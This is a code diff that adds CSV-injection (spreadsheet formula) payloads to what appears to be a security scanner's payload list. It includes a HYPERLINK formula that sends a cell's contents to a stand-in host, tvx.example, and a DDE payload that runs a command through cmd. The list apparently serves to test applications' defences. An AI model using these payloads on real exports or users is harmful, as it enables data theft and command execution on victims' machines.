@@ -247,6 +247,16 @@ ENCODING = [
     Payload("encoding", "overlong-lt", Raw("%C0%BCscript%C0%BEalert('tvx35')")),
 ]
 
+# Spreadsheet formulas (CSV injection): harmless on a page, run by a spreadsheet that opens
+# an export.
+FORMULA = [
+    Payload("formula", "hyperlink", '=HYPERLINK("http://tvx.example/?leak="&A1,"Camille")'),
+    Payload("formula", "plus", "+1+1"),
+    Payload("formula", "minus", "-2+3+cmd|' /C calc'!A0"),
+    Payload("formula", "at", "@SUM(1,1)"),
+    Payload("formula", "tab", "\t=1+1"),
+]
+
 CLASSES = {
     "xss": XSS,
     "big": BIG,
@@ -256,6 +266,7 @@ CLASSES = {
     "sql": SQL,
     "template": TEMPLATE,
     "encoding": ENCODING,
+    "formula": FORMULA,
 }
 ALL = [payload for payloads in CLASSES.values() for payload in payloads]
 # Every XSS marker's danger at once, to read any page (including those that show stored
